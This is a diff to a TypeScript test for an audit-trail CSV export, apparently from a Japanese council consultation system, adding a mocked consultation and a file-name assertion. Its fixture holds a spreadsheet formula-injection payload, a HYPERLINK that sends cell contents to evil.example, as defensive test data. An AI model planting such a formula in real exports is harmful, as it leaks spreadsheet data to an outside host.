@@ -57,8 +57,10 @@ describe('Excel-bound CSV', () => {
       { at: '2026-01-05T01:02:03.000Z', eventId: 'e1', actor: { userId: 'u', name: '=HYPERLINK("http://evil.example/?"&A1)', role: 'department' }, action: '提出', detail: '件名,「公金」\n2行目', sourceIp: '127.0.0.1' },
       { at: '2026-01-05T01:02:04.000Z', eventId: 'e2', actor: { userId: 'workflow', name: 'ワークフロー', role: 'system' }, action: '状態:受付審査中' },
     ];
-    const deps = { consultations: { auditTrail: async () => trail }, clock: { now: () => new Date() } } as unknown as Pick<Deps, 'consultations' | 'clock'>;
-    const { csv: file } = await exportAudit(deps, { userId: 's', name: '山下 潤', role: 'secretariat', councilId: 'c', departmentId: undefined }, { councilId: 'c', consultationId: 'k' });
+    const consultation = { number: { fiscalYear: 2026, n: 7 }, form: { title: '公金収納' } };
+    const deps = { consultations: { get: async () => consultation, auditTrail: async () => trail }, clock: { now: () => new Date() } } as unknown as Pick<Deps, 'consultations' | 'clock'>;
+    const { csv: file, fileName } = await exportAudit(deps, { userId: 's', name: '山下 潤', role: 'secretariat', councilId: 'c', departmentId: undefined }, { councilId: 'c', consultationId: 'k' });
+    expect(fileName).toMatch(/^操作記録_.*7.*\.csv$/);
     expect([...file.subarray(0, 3)]).toEqual(BOM);
     expect(read(file)).toEqual([
       ['日時', '操作した人', '区分', '操作', '内容', '接続元'],
